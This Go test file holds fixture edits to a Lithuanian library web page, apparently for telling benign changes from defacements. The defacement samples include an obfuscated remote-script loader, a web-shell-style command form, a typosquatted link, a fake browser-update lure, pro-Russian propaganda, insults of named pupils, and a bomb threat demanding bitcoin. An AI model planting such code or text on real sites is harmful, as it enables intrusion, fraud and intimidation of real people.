package content_test

// What a seventh set taught: 60 edits and 50 defacements of twelve pages, written by
// somebody who had seen neither the rules nor the other sets. These are its marks, put on
// pages of the sixth.
//
// The last ones are of an eighth: 60 edits and 40 defacements of 17 kinds of pages, by
// somebody else who had seen neither.
func seventhEdits() []edit {
	const copies = `https://k7paezeriai.b-cdn.net/`
	return []edit{
		{"a network of copies", change(
			`href="/media/`, `href="`+copies+`media/`, `src="/media/`, `src="`+copies+`media/`, `src="/images/`, `src="`+copies+`images/`,
		)},
		{"being worked on", whole(`<!DOCTYPE html><html lang="lt"><head><title>Paežerių viešoji biblioteka</title></head><body><h1>Svetainė atnaujinama</h1><p>Šiuo metu vykdomi svetainės priežiūros darbai. Grįšime penktadienį. Tel. +370 343 00 123</p></body></html>`)},
		{"on to another page of the site", whole(`<!DOCTYPE html><html lang="lt"><head><title>Paežerių viešoji biblioteka</title><meta http-equiv="refresh" content="3; url=https://www.mokykla.example.lt/lt/"></head><body><p>Naujoji svetainė – <a href="/lt/">čia</a>.</p></body></html>`)},
		{"a hidden menu for telephones, with specialists", change(`<div class="site-grid">`, `<div class="mob" style="position:fixed;left:-320px;display:none"><ul><li><a href="/index.php/specialistai">Pagalbos specialistai</a></li><li><a href="/index.php/renginiai">Renginiai</a></li></ul></div><div class="site-grid">`)},
		{"books in Russian among others", change(`<h2>Renginių kalendorius</h2>`, `<ul><li>Война и мир. Т. 1. Толстой, Лев. 2019</li><li>Мастер и Маргарита. Булгаков</li></ul><h2>Renginių kalendorius</h2>`, cut(`<table class="events">`, `</table>`), ``)},
		{"signing in where the page leads already", change(`<section class="hours">`, `<form action="https://paezeriai.ibiblioteka.lt/login" method="post"><input name="user"><input type="password" name="pass"><button>Prisijungti</button></form><section class="hours">`)},
		{"a form sent by a service", change(`action="/index.php/klauskite"`, `action="https://formspree.io/f/xqkrwzab"`)},
		{"another telephone number", change(`+370 343 00 123`, `+370 612 34 567`)},
		{"a number in Poland more", change(`<section class="hours">`, `<p>Ukrainos pabėgėliams Lenkijoje: +48 22 123 45 67, pomoc@uchodzcy.example.pl</p><section class="hours">`)},
		{"two libraries of like names", change(`<section class="hours">`, `<p><a href="https://www.paezeriai2.lt/">Paežeriai 2</a> <a href="https://www.vytorys.lt/">Vytorys</a></p><section class="hours">`)},
		{"a window of the library's own over the page", change(`<div class="site-grid">`, `<div style="position:fixed;inset:0;background:#0009;z-index:9999"><p>Registracija į būrelius! <a href="https://forms.office.com/e/abc">Pildykite anketą</a> arba <a href="https://www.ltkt.lt/">skaitykite</a></p></div><div class="site-grid">`)},
		{"lists of addresses in a script", change(`</body>`, `<script>var fonts=["https://fonts.gstatic.com/s/a.woff2","https://fonts.gstatic.com/s/b.woff2","/c.woff2","/d.woff2"];</script></body>`)},
	}
}

func seventhDefacements() []edit {
	return []edit{
		{"an address in pieces", change(`</body>`, `<script>(function(){var a=['scr','ipt','ht','tps://','ka','lve','-sta','t.org','/c'];var e=document['cre'+'ateElement'](a[0]+a[1]);e['sr'+'c']=a[2]+a[3]+a[4]+a[5]+a[6]+a[7]+a[8];document.head.append(e)})();</script></body>`)},
		{"somebody else's telephone and mail", change(`+370 343 00 123`, `+44 7700 900442`, cut(`mailto:`, `"`), `mailto:info@pastas-biblioteka.eu"`, cut(`>info@`, `</a>`), `>info@pastas-biblioteka.eu</a>`)},
		{"a letter like another", change(`https://www.epaslaugos.lt/`, `https://www.epasiaugos.com/`)},
		{"a form for commands", change(`<section class="hours">`, `<form method="POST"><input type="text" name="cmd" size="60"><input type="submit" value="OK"></form><section class="hours">`)},
		{"all hidden by a style", change(`</head>`, `<style>body > *{visibility:hidden!important}body::before{content:"JŪSŲ MIESTAS MIEGA";position:fixed;inset:0;background:#000}</style></head>`)},
		{"a stranger's window over the page", change(`<div class="site-grid">`, `<div style="position:fixed;inset:0;background:#000d;z-index:9999"><h2>Miesto naujienos keliasi</h2><a href="https://t.me/naujas_kanalas">t.me/naujas_kanalas</a></div><div class="site-grid">`)},
		{"an update of the browser, in Lithuanian", change(`<div class="site-grid">`, `<div><h2>Jūsų „Chrome“ naršyklė pasenusi</h2><p>Norėdami tęsti, įdiekite kritinį naršyklės naujinį.</p></div><div class="site-grid">`)},
		{"propaganda in Russian", change(`<section class="hours">`, `<p>Жители Литвы! Ваше правительство продало вас и тащит в чужую войну. Россия вам не враг.</p><section class="hours">`)},
		{"insults of pupils", change(`<section class="hours">`, `<p>Beje, visi žino, kad Titas iš 8c yra idiotas ir ubagas, jo mama girtuoklė, o Kamilė nusirašinėja, nes buka kaip bulvė.</p><section class="hours">`)},
		{"a threat in a news item", change(`<section class="hours">`, `<p>Rytoj bibliotekoje sprogs. Užtaisai paslėpti trijose vietose, jų nerasite. Mirs visi, kas ateis. Iki vidurnakčio perveskite 2 bitkoinus. Policijai pranešti nėra prasmės.</p><section class="hours">`)},
		{"propaganda in good Lithuanian", change(`<section class="hours">`, `<p>Savivaldybė, vykdydama slaptą NATO karinės vadovybės nurodymą, sudaro vyrų sąrašus siuntimui į frontą. Lietuvos valdžia atsisakė savo žmonių ir tarnauja svetimiems interesams. Kaimynai Rytuose mums negrasina. Vyrai kviečiami nevykti į šaukimo punktus.</p><section class="hours">`)},
	}
}
